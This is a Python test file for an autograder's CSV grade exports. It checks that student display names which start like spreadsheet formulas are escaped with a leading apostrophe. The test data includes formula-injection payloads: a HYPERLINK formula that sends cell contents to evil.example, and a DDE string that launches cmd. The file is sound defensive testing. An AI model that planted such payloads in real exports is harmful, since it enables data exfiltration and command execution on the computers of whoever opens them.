"""CSV files course-grade writes open in a spreadsheet without running a student's formula.

A display name comes from the LMS download (the student chose it); a cell starting with
``=``, ``+``, ``-`` or ``@`` would be read as a formula by Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import json

from autograder.grading.parent.exports import write_exports
from autograder.grading.parent.results import ResultStore

NAMES = {
    "eve": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "mal": "@SUM(1+1)*cmd|' /C calc'!A0",
    "neg": "-2+3",
    "plus": "+1+1",
    "ann": "Ann Lee",
}


def _results():
    out = {}
    for sid, name in NAMES.items():
        rows = [{"student": sid, "notebook": "01_attention", "exercise": "ex1", "points": "2",
                 "max_points": "2", "status": "graded", "diagnosis": "", "flagged": ""}]
        out[sid] = {"student": sid, "fingerprint": "x", "rows": rows, "seconds": 1.0,
                    "name": name, "lms_id": "1001"}
    return out


def _lms(lms: str) -> dict:
    out = _results()
    for r in out.values():
        r["lms"] = lms
    return out


def _read(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_exports_write_formula_like_names_as_text(tmp_path):
    for kind in ("canvas", "moodle"):
        write_exports(tmp_path / kind, {"01_attention": ["01_attention"]}, _lms(kind))
        rows = _read(tmp_path / kind / "exports" / f"01_attention.{kind}.csv")
        names = {r[0 if kind == "canvas" else 1] for r in rows[1:]}
        assert names == {"'" + n for n in NAMES.values() if n != "Ann Lee"} | {"Ann Lee"}
        assert {r[-1 if kind == "canvas" else 2] for r in rows[1:]} == {"2"}  # numbers


def test_grades_csv_writes_formula_like_names_as_text(tmp_path):
    store = ResultStore(tmp_path)
    for sid, r in _results().items():
        store.save(json.dumps(r), sid)
    path = store.write_csv()
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["student"]: r["name"] for r in rows} == {
        sid: name if sid == "ann" else "'" + name for sid, name in NAMES.items()}
    assert {r["points"] for r in rows} == {"2"}
